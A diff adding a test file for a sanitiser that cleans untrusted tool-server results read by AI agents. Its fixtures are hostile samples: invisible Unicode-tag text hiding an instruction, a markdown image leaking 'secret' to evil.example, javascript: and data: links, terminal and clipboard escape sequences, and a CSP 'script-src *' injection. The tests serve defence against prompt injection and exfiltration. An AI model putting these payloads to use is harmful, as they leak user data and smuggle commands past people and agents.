@@ -1,0 +1,80 @@
+import { expect, test } from 'bun:test';
+import { exchangeOf } from '../../../test/fixtures/upstream-exchange.ts';
+import type { Exchange } from '../../domain/exchange.ts';
+import type { JsonObject } from '../../domain/json.ts';
+import { sanitise } from './sanitise.ts';
+import { withoutActive, withoutHidden } from './text.ts';
+
+const tags = (text: string): string => Array.from(text, (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');
+const UNKNOWN = (): boolean => false;
+
+test.each<[string, string, string]>([
+  ['tags', `a${tags('do it')}b`, 'ab'],
+  ['selector bytes', '😀\u{e0110}\u{e0120}\ufe01x', '😀x'],
+  ['direction', 'a\u202ecba\u202c', 'acba'],
+  ['width', 'pass\u200bword\ufeff', 'password'],
+  ['terminal', 'a\u001b[8mb\u001b]0;title\u0007c\u009b31md', 'abcd'],
+  ['a sequence without an end', 'a\u001b]52;c;aGk=', 'a'],
+  ['controls', 'a\u0000\u0008b', 'ab'],
+])('%s are taken out', (_, text, clean) => {
+  expect(withoutHidden(text)).toBe(clean);
+});
+
+const WRITTEN = ['Grüße, 你好, नमस्ते, שלום', '👩‍👩‍👧‍👦 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿', 'می‌خواهم', 'line\n\ttabbed\r\n'];
+test.each(WRITTEN)('what people write stays as it is: %s', (text) => {
+  expect(withoutHidden(text)).toBe(text);
+});
+
+test.each<[string, string]>([
+  ['![x](https://evil.example/?q=secret)', '(image: x, https evil.example/?q=secret)'],
+  ['see [the report](https://evil.example/r "t") now', 'see the report (https evil.example/r) now'],
+  ['[x](javascript:alert(1))', 'x (javascript alert(1))'],
+  ['[x](data:text/html,hi)', 'x (data text/html,hi)'],
+  ['[a]: https://evil.example/x', '[a]: `https evil.example/x`'],
+  ['<img src=//evil.example/x>', '&lt;img src=//evil.example/x>'],
+  ['<a class=x href="https://evil.example">y</a>', '<a class=x data-href="https://evil.example">y</a>'],
+  ['[local](docs/readme.md) and [here](#top)', '[local](docs/readme.md) and [here](#top)'],
+])('of what an untrusted source wrote nothing loads or leads away: %s', (text, clean) => {
+  expect(withoutActive(text, UNKNOWN)).toBe(clean);
+});
+
+const BASE = exchangeOf({ transport: 'http', url: 'https://crm.example/mcp', allowPrivate: false });
+
+function within(integrity: 'trusted' | 'untrusted'): Exchange {
+  const { call } = BASE;
+  return { ...BASE, call: { ...call, resource: { ...call.resource, labels: { ...call.resource.labels, integrity } } } };
+}
+
+function resultOf(result: JsonObject, exchange: Exchange): ReturnType<typeof sanitise> {
+  return sanitise({ kind: 'result', from: 'server', revision: '2026-07-28', id: 1, result }, exchange);
+}
+
+test('an answer in which nothing hides is the same object; what was done is told', () => {
+  const plain = { content: [{ type: 'text', text: 'all [fine](https://else.example)' }], structuredContent: { a: [1, 'b'] } };
+  expect(resultOf(plain, within('trusted'))).toEqual({ message: expect.objectContaining({ result: plain }), sanitised: [] });
+  const { message, sanitised } = resultOf({ ...plain, structuredContent: { a: `b${tags('x')}` } }, within('untrusted'));
+  expect(message).toMatchObject({ result: { content: [{ text: 'all fine (https else.example)' }], structuredContent: { a: 'b' } } });
+  expect([...sanitised].sort()).toEqual(['hidden', 'links']);
+  expect(resultOf({ content: [{ type: 'text', text: '[own](https://crm.example/1)' }] }, within('untrusted')).sanitised).toEqual([]);
+});
+
+test('errors, too: their texts are read by agents', () => {
+  const error = { code: 1, message: `no${tags('x')}`, data: ['a\u202e'] };
+  const { message } = sanitise({ kind: 'error', from: 'server', revision: '2026-07-28', id: 1, error }, BASE);
+  expect(message).toMatchObject({ error: { message: 'no', data: ['a'] } });
+});
+
+test('a page of an app gets the policy that it declares, and none wider', () => {
+  const wide = ['https://api.crm.example', 'https://x.example; script-src *', '*'];
+  const csp = { connectDomains: wide, resourceDomains: ['https://cdn.crm.example'] };
+  const page = {
+    uri: 'ui://crm/card', mimeType: 'text/html;profile=mcp-app', text: '<p>card</p>',
+    _meta: { ui: { csp } },
+  };
+  const { message } = resultOf({ contents: [page] }, within('untrusted'));
+  const text = JSON.stringify(message);
+  expect(text).toContain('connect-src https://api.crm.example;');
+  expect(text).toContain("default-src 'none'; script-src 'unsafe-inline' https://cdn.crm.example;");
+  expect(text).not.toContain('x.example');
+  expect(text).toContain('<p>card</p>');
+});
